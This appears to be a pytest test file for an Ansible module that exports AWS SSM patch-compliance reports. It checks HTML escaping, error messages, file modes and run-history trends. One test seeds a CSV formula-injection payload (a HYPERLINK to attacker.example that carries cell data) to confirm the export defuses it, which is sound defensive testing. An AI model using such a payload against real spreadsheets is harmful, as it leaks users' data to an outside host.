    operation = {"operation": value, "mechanism": value, "document": value, "id": value, "start_time": value, "end_time": value,
                 "status": value, "targets": value}
    task = {"name": value, "type": value, "id": value, "document": value, "schedule": value, "targets": value}
    stream = io.StringIO()
    writer = report_writer("html", stream, {"report_name": "hostile", "generated_at": value, "scope": value, "region": value})
    writer.node(node)
    writer.details(node, [detail])
    writer.close(counts.as_dict([operation], [task]))
    return stream.getvalue()


@pytest.mark.skipif(not CHROMIUM.exists(), reason="headless browser test needs Debian's chromium: apt-get install -y chromium")
def test_hostile_values_stay_text_in_headless_chromium(tmp_path):
    """Every value from AWS, hostile, lands in the DOM as text: the page has the elements of a page
    of harmless values and not one more, no event handler attribute, and each hostile string is there."""
    profile = tmp_path / "profile"
    plain = tmp_path / "plain.html"
    plain.write_text(hostile_page("plain value"), encoding="utf-8")
    expected = dom_shape(chromium_dom(plain, profile))
    assert "svg" in expected.tags and "table" in expected.tags  # the real page's own elements
    for number, value in enumerate(HOSTILE):
        page = tmp_path / f"hostile-{number}.html"
        page.write_text(hostile_page(value), encoding="utf-8")
        shape = dom_shape(chromium_dom(page, profile))
        assert sorted(shape.tags) == sorted(expected.tags), value
        assert not {"img", "script", "iframe"} & set(shape.tags)
        assert sorted(shape.attributes) == sorted(expected.attributes), value
        assert not [name for name in shape.attributes if name.startswith("on")]
        text = "".join(shape.text)
        # node table, details, operations, tasks, title, scope: the value is shown as it is, many times over
        assert text.count(value) >= 20, (value, text.count(value))


@pytest.mark.skipif(not CHROMIUM.exists(), reason="headless browser test needs Debian's chromium: apt-get install -y chromium")
def test_an_exported_page_of_hostile_node_names_opens_as_text(run_target, tmp_path):
    """The module's own page, from the sandbox: nodes whose Name tags are hostile."""
    sandbox = run_target.sandbox
    for value in HOSTILE:
        sandbox.seed_nodes(1, "AMAZON_LINUX_2", tags={"Name": value})
    export_here(run_target.sandbox, {"report_name": "hostile-names", "format": "html", "dest": str(tmp_path)})
    shape = dom_shape(chromium_dom(tmp_path / "hostile-names.html", tmp_path / "profile"))
    assert not {"img", "script", "iframe"} & set(shape.tags)
    assert not [name for name in shape.attributes if name.startswith("on")]
    assert shape.tags.count("tr") == 1 + len(HOSTILE) + 1 + 1 + 1 + 1  # node table head + rows, two empty tables with head and row
    text = "".join(shape.text)
    assert all(value in text for value in HOSTILE)


def test_a_failed_notification_after_the_write_fails_with_changed_and_says_where(run_target, tmp_path):
    workshop(run_target.sandbox)
    reports = tmp_path / "reports"
    reports.mkdir()
    missing_topic = "arn:aws:sns:us-east-1:123456789012:nobody-listens"
    result = export_here(run_target.sandbox, {"report_name": "report2026", "s3_bucket": BUCKET, "dest": f"{reports}/",
                                              "sns_topic_arn": missing_topic}, expect_failure=True)
    assert result["changed"] is True
    assert result["msg"].startswith(f"the report is in place (s3://{BUCKET}/report2026.csv and {reports / 'report2026.csv'}), "
                                    "but the notification failed")
    assert f"sns_topic_arn {missing_topic} was not found from us-east-1" in result["msg"]
    assert result["report"]["nodes"] == 4 and result["report"]["dest"] == str(reports / "report2026.csv")
    body = run_target.sandbox.client("s3").get_object(Bucket=BUCKET, Key="report2026.csv")["Body"].read()
    assert hashlib.sha256(body).hexdigest() == result["report"]["sha256"] == hashlib.sha256((reports / "report2026.csv").read_bytes()).hexdigest()
    assert sorted(path.name for path in reports.iterdir()) == ["report2026.csv"]


def test_file_options_and_directory_dest_through_ansible(run_target, tmp_path):
    """A dest ending in / is created for the report; new files 0600, an existing one keeps its mode, mode is honoured.
    The first export is a task of ansible-playbook; the two on the file it wrote run the module in process."""
    run_target.sandbox.seed_nodes(2, "AMAZON_LINUX_2")
    reports = tmp_path / "new" / "reports"
    first = export(run_target, tmp_path, {"report_name": "fleet-2026-11-30", "dest": f"{reports}/"}, name="first")
    assert first["report"]["dest"] == str(reports / "fleet-2026-11-30.csv")
    assert stat.S_IMODE(reports.stat().st_mode) == 0o700
    assert stat.S_IMODE((reports / "fleet-2026-11-30.csv").stat().st_mode) == 0o600
    (reports / "fleet-2026-11-30.csv").chmod(0o640)
    export_here(run_target.sandbox, {"report_name": "fleet-2026-11-30", "dest": str(reports)})
    assert stat.S_IMODE((reports / "fleet-2026-11-30.csv").stat().st_mode) == 0o640
    export_here(run_target.sandbox, {"report_name": "fleet-2026-11-30", "dest": str(reports), "mode": "0644"})
    assert stat.S_IMODE((reports / "fleet-2026-11-30.csv").stat().st_mode) == 0o644
    assert sorted(path.name for path in reports.iterdir()) == ["fleet-2026-11-30.csv"]


def test_a_selection_matching_no_node_fails_with_the_region_and_writes_nothing(run_target, tmp_path):
    workshop(run_target.sandbox)
    reports = tmp_path / "reports"
    result = export_here(run_target.sandbox, {"report_name": "nobody", "dest": f"{reports}/", "s3_bucket": BUCKET,
                                              "patch_groups": ["Nobody"]}, expect_failure=True)
    assert result["msg"] == "0 nodes in us-east-1 matched patch groups Nobody: nothing to report"
    assert not reports.exists()
    assert run_target.sandbox.client("s3").list_objects_v2(Bucket=BUCKET).get("KeyCount", 0) == 0


def test_a_bucket_that_does_not_exist_is_named_with_the_region(run_target, tmp_path):
    run_target.sandbox.seed_nodes(1, "AMAZON_LINUX_2")
    reports = tmp_path / "reports"
    reports.mkdir()
    result = export_here(run_target.sandbox, {"report_name": "fleet", "s3_bucket": "no-such-reports-bucket", "dest": str(reports)},
                         expect_failure=True)
    assert result["msg"].startswith("s3_bucket no-such-reports-bucket does not exist (asked from us-east-1)")
    assert result.get("changed") is not True and list(reports.iterdir()) == []


def test_formula_cells_from_node_data_are_defused_in_the_csv(run_target, tmp_path):
    """A Name tag a spreadsheet would run: quoted in the CSV by default, raw with csv_escape_formulas=false and in JSON."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    [node] = run_target.sandbox.seed_nodes(1, "AMAZON_LINUX_2", tags={"Name": formula})
    export_here(run_target.sandbox, {"report_name": "escaped", "dest": str(tmp_path)})
    export_here(run_target.sandbox, {"report_name": "raw", "dest": str(tmp_path), "csv_escape_formulas": False})
    export_here(run_target.sandbox, {"report_name": "raw", "format": "json", "dest": str(tmp_path)})
    escaped = read_csv((tmp_path / "escaped.csv").read_text())[1]
    assert escaped[1] == node and escaped[2] == "'" + formula and escaped[0] == "1"
    assert read_csv((tmp_path / "raw.csv").read_text())[1][2] == formula
    assert json.loads((tmp_path / "raw.json").read_text())["nodes"][0]["name"] == formula


# --------------------------------------------------------------------------------------------------
# History: three runs with the fleet changing in between

def patch(sandbox, node_ids, operation):
    """One AWS-RunPatchBaseline command on these nodes, run to its end on the sandbox's clock."""
    ssm = sandbox.client("ssm")
    sandbox.freeze_clock()
    try:
        command_id = ssm.send_command(DocumentName="AWS-RunPatchBaseline", InstanceIds=list(node_ids), MaxConcurrency="50", MaxErrors="0",
                                      Parameters={"Operation": [operation], "RebootOption": ["RebootIfNeeded"]})["Command"]["CommandId"]
        sandbox.advance_clock(0.7 * len(node_ids) + 1)
        assert ssm.list_commands(CommandId=command_id)["Commands"][0]["Status"] == "Success"
    finally:
        sandbox.unfreeze_clock()


class Tables(HTMLParser):
    """Each table of a page by its id: its body rows, each a list of cell texts (th and td)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tables, self.current, self.row, self.cell, self.in_body = {}, None, None, None, False

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self.current = self.tables.setdefault(dict(attrs).get("id"), [])
        elif tag == "tbody":
            self.in_body = True
        elif tag == "tr" and self.in_body:
            self.row = []
        elif tag in ("td", "th") and self.row is not None:
            self.cell = []

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self.cell is not None:
            self.row.append("".join(self.cell).strip())
            self.cell = None
        elif tag == "tr" and self.row is not None:
            self.current.append(self.row)
            self.row = None
        elif tag == "tbody":
            self.in_body = False

    def handle_data(self, data):
        if self.cell is not None:
            self.cell.append(data)


def page_tables(text):
    parser = Tables()
    parser.feed(text)
    parser.close()
    return parser.tables


def history_fleet(sandbox):
    """The workshop's four nodes, scanned, and a fifth (Late1) that has never reported."""
    node_ids = workshop(sandbox)
    node_ids["Late1"] = sandbox.seed_nodes(1, "AMAZON_LINUX_2", tags={"Name": "Late1"})[0]
    patch(sandbox, [node_ids[name] for name in WORKSHOP_NODES], "Scan")
    return node_ids


def minutes_apart(monkeypatch, start):
    """The export module's clock, in this process: the first run at `start`, each run one minute after the one
    before. A run's history keys are stamped to the second; runs in one process can come within a second of
    each other, where runs each in an ansible-playbook process never did."""
    module = importlib.import_module("ansible_collections.cloudpatch.ssm.plugins.modules.ssm_compliance_export")
    minutes = itertools.count()

    class Clock(datetime.datetime):
        @classmethod
        def now(cls, tz=None):
            return (start + datetime.timedelta(minutes=next(minutes))).astimezone(tz)

    clock = types.SimpleNamespace(**{name: getattr(datetime, name) for name in dir(datetime) if not name.startswith("__")})
    clock.datetime = Clock
    monkeypatch.setattr(module, "datetime", clock)


@pytest.fixture
def minute_apart(monkeypatch):
    minutes_apart(monkeypatch, datetime.datetime.now(datetime.timezone.utc))


@pytest.mark.usefixtures("minute_apart")
def test_a_history_of_three_runs_shows_the_trend_and_the_nodes_that_got_worse(agent, tmp_path):
    node_ids = history_fleet(agent)
    names = dict((node_id, name) for name, node_id in node_ids.items())
    s3 = agent.client("s3")
    html_dir, json_dir = tmp_path / "html", tmp_path / "json"
    html_args = {"report_name": "fleet", "format": "html", "s3_bucket": BUCKET, "s3_prefix": "reports", "dest": f"{html_dir}/", "history": {"runs": 10}}
    # The JSON report keeps its history on the local disk only, and shows two runs.
    json_args = {"report_name": "fleet", "format": "json", "dest": f"{json_dir}/", "history": {"runs": 2, "prefix": "kept/runs"}}
    results, documents, html_calls = [], [], []

    def run(number):
        agent.clear_calls()
        results.append(export_here(agent, html_args))
        html_calls.append(agent.calls())
        s3_calls = [call["operation"] for call in agent.calls(service="s3")]
        # The history read: one listing of the summaries' prefix, one GET a previous record; then the report,
        # its dated copy and its record: three puts. Nothing per node.
        assert s3_calls == ["ListObjectsV2"] + ["GetObject"] * (number - 1) + ["PutObject"] * 3, s3_calls
        operations = agent.operations()
        assert operations.count("ListComplianceItems") == 0
        assert operations.count("DescribeInstanceInformation") == operations.count("DescribeInstancePatchStates") == 1
        documents.append(export_here(agent, json_args))

    run(1)
    # Install on App1, App2 and Web1: compliant. Web2 stays as it was.
    patch(agent, [node_ids[name] for name in ("App1", "App2", "Web1")], "Install")
    run(2)
    # A new baseline rule for Web (non-security updates too), and Web1 scanned against it: worse.
    # Late1 reports for the first time, non-compliant: worse too.
    ssm = agent.client("ssm")
    everything = ssm.create_patch_baseline(
        Name="WebEverything", OperatingSystem="AMAZON_LINUX_2",
        ApprovalRules={"PatchRules": [{"PatchFilterGroup": {"PatchFilters": [{"Key": "PRODUCT", "Values": ["*"]}]},
                                       "ApproveAfterDays": 0, "ComplianceLevel": "HIGH", "EnableNonSecurity": True}]})["BaselineId"]
    ssm.register_patch_baseline_for_patch_group(BaselineId=everything, PatchGroup="Web")
    patch(agent, [node_ids["Web1"], node_ids["Late1"]], "Scan")
    # And a maintenance window to install Web's patches on Sundays: the page shows its next run.
    window_id = ssm.create_maintenance_window(Name="web-sunday", Schedule="cron(0 2 ? * SUN *)", Duration=3, Cutoff=1,
                                              AllowUnassociatedTargets=False)["WindowId"]
    target_id = ssm.register_target_with_maintenance_window(WindowId=window_id, ResourceType="INSTANCE",
                                                            Targets=[{"Key": "tag:Patch Group", "Values": ["Web"]}])["WindowTargetId"]
    ssm.register_task_with_maintenance_window(
        WindowId=window_id, Name="web-install", TaskArn="AWS-RunPatchBaseline", TaskType="RUN_COMMAND", Priority=1, MaxConcurrency="1",
        MaxErrors="0", Targets=[{"Key": "WindowTargetIds", "Values": [target_id]}],
        TaskInvocationParameters={"RunCommand": {"Parameters": {"Operation": ["Install"]}}})
    next_run = ssm.describe_maintenance_windows()["WindowIdentities"][0]["NextExecutionTime"]
    run(3)
    with_history = sorted(call["operation"] for call in html_calls[2] if call["service"] != "s3")
    # The same export without history makes the same SSM and EC2 calls: history costs S3 calls only.
    agent.clear_calls()
    plain = dict((key, value) for key, value in html_args.items() if key != "history")
    export_here(agent, dict(plain, report_name="plain"))
    assert sorted(call["operation"] for call in agent.calls() if call["service"] != "s3") == with_history

    times = [result["report"]["generated_at"] for result in results]
    expected_counts = [(0, 4, 1, 5), (3, 1, 1, 5), (2, 3, 0, 5)]
    worse_ids = sorted([node_ids["Web1"], node_ids["Late1"]])

    # The module's return: the trend over the three runs, oldest first, and who got worse in each.
    for number, result in enumerate(results):
        trend = result["dashboard"]["trend"]
        assert [(point["generated_at"], point["compliant"], point["non_compliant"], point["never_reported"], point["total"])
                for point in trend["runs"]] == [(times[index],) + expected_counts[index] for index in range(number + 1)]
        assert trend["previous_run"] == (times[number - 1] if number else None)
    assert results[0]["dashboard"]["trend"]["got_worse"] == [] and results[1]["dashboard"]["trend"]["got_worse"] == []
    got_worse = results[2]["dashboard"]["trend"]["got_worse"]
    assert sorted(node["instance_id"] for node in got_worse) == worse_ids
    assert {node["instance_id"]: (node["name"], node["patch_group"]) for node in got_worse} == {
        node_ids["Web1"]: ("Web1", "Web"), node_ids["Late1"]: ("Late1", None)}

    # The HTML page of the third run, cell by cell: the trend table and the nodes that got worse.
    page = (html_dir / "fleet.html").read_text()
    tables = page_tables(page)
    assert tables["trend"] == [
        [f"{time} (this run)" if index == 2 else time] + [str(count) for count in expected_counts[index]] + [""]
        for index, time in enumerate(times)
    ]
    assert sorted(tables["got-worse"]) == sorted([[node_ids["Web1"], "Web1", "Web"], [node_ids["Late1"], "Late1", "-"]])
    assert f"Nodes that got worse since the last run ({times[1]}): 2" in page
    # The window's next run, as DescribeMaintenanceWindows gave it (no other call asked for it).
    assert tables["tasks"] == [["web-install", "Maintenance window", "AWS-RunPatchBaseline", "cron(0 2 ? * SUN *)", next_run]]
    assert results[2]["dashboard"]["recurring_tasks"][0]["next_run"] == next_run
    assert "<script" not in page and "http://" not in page and "https://" not in page

    # Each run's copy under its dated key, the same bytes as that run's report; one record per run.
    for result in results:
        history = result["report"]["history"]
        stamp = result["report"]["generated_at"]
        assert history["report_s3_key"] == f"reports/history/{stamp[:4]}/{stamp[5:7]}/{stamp[8:10]}/fleet-{stamp[11:13]}{stamp[14:16]}{stamp[17:19]}.html"
        body = s3.get_object(Bucket=BUCKET, Key=history["report_s3_key"])["Body"].read()
        assert hashlib.sha256(body).hexdigest() == result["report"]["sha256"]
        assert Path(history["report_file"]).read_bytes() == body
        assert stat.S_IMODE(Path(history["record_file"]).stat().st_mode) == 0o600
    listed = s3.list_objects_v2(Bucket=BUCKET, Prefix="reports/history/summaries/fleet/")["Contents"]
    # Newest first, as the module relies on.
    assert [item["Key"] for item in listed] == [result["report"]["history"]["record_s3_key"] for result in reversed(results)]
    record = json.loads(s3.get_object(Bucket=BUCKET, Key=results[2]["report"]["history"]["record_s3_key"])["Body"].read())
    assert record["format_version"] == 1 and record["generated_at"] == times[2] and record["selection"] == {}
    assert record["counts"] == {"compliant": 2, "non_compliant": 3, "never_reported": 0, "total": 5}
    assert sorted(record["non_compliant_ids"]) == sorted(node_ids[name] for name in ("Web1", "Web2", "Late1"))
    assert record["never_reported_ids"] == []
    first = json.loads(s3.get_object(Bucket=BUCKET, Key=results[0]["report"]["history"]["record_s3_key"])["Body"].read())
    assert first["never_reported_ids"] == [node_ids["Late1"]]

    # The JSON report (local history, two runs shown) carries the trend in its dashboard.
    document = json.loads((json_dir / "fleet.json").read_text())
    trend = document["dashboard"]["trend"]
    assert [(point["compliant"], point["non_compliant"], point["never_reported"], point["total"]) for point in trend["runs"]] == expected_counts[1:]
    assert trend["runs_asked"] == 2 and trend["previous_run"] == documents[1]["report"]["generated_at"]
    assert sorted((node["instance_id"], node["name"]) for node in trend["got_worse"]) == sorted((node_id, names[node_id]) for node_id in worse_ids)
    kept = sorted(path.relative_to(json_dir).as_posix() for path in json_dir.rglob("*") if path.is_file())
    assert len(kept) == 1 + 3 + 3 and "fleet.json" in kept
    assert len([name for name in kept if name.startswith("kept/runs/summaries/fleet/")]) == 3

    # As a person sees it: the page opens in Chromium with the widget's rows, and a screenshot is kept.
    if CHROMIUM.exists():
        dom = chromium_dom(html_dir / "fleet.html", tmp_path / "profile")
        assert page_tables(dom)["trend"] == tables["trend"] and sorted(page_tables(dom)["got-worse"]) == sorted(tables["got-worse"])
        screenshot = tmp_path / "trend.png"
        subprocess.run([str(CHROMIUM), *CHROMIUM_FLAGS, f"--user-data-dir={tmp_path / 'profile'}", f"--screenshot={screenshot}",
                        "--window-size=1400,1400", (html_dir / "fleet.html").as_uri()], capture_output=True, text=True, timeout=120, check=True)
        keep = Path(__file__).resolve().parents[2] / ".build" / "screenshots"
        keep.mkdir(parents=True, exist_ok=True)
        shutil.copy(screenshot, keep / "compliance-trend.png")


def test_the_compliance_report_role_keeps_each_reports_history(run_target, agent, tmp_path, monkeypatch):
    """compliance_report_history reaches every export: the third run shows three runs, the fourth still three.
    The first three runs are the role's two exports run in process, with what the role gives them, minutes
    before; the fourth is the role's, and finds them: it shows three runs (of four records) only if the role
    gives every export both the history's prefix and its runs."""
    history_fleet(agent)
    reports = tmp_path / "reports"
    reports.mkdir(mode=0o755)  # as the role's "Create the local report directory"
    minutes_apart(monkeypatch, datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(minutes=10))
    for number in (1, 2, 3):
        exported = [export_here(agent, {"report_name": report_name, "format": report_format, "s3_bucket": BUCKET,
                                        "s3_prefix": "reports", "dest": str(reports), "reporting_days": 7, "history": {"runs": 3}})
                    for report_name, report_format in (("fleet", "json"), ("dashboard", "html"))]
        (tmp_path / f"role-{number}.json").write_text(json.dumps([result["dashboard"] for result in exported]))
    run_target("compliance_report_history", {"report_dir": str(reports), "bucket": BUCKET, "result_dir": str(tmp_path), "runs": [4]})
    for number in range(1, 5):
        dashboards = json.loads((tmp_path / f"role-{number}.json").read_text())
        assert [len(dashboard["trend"]["runs"]) for dashboard in dashboards] == [min(number, 3)] * 2, f"run {number}"
        assert all(dashboard["trend"]["runs"][-1]["total"] == 5 for dashboard in dashboards)
    keys = [item["Key"] for item in agent.client("s3").list_objects_v2(Bucket=BUCKET, Prefix="reports/history/summaries/")["Contents"]]
    assert len([key for key in keys if "/fleet/" in key]) == 4 and len([key for key in keys if "/dashboard/" in key]) == 4
    assert len(list((reports / "history" / "summaries" / "dashboard").iterdir())) == 4
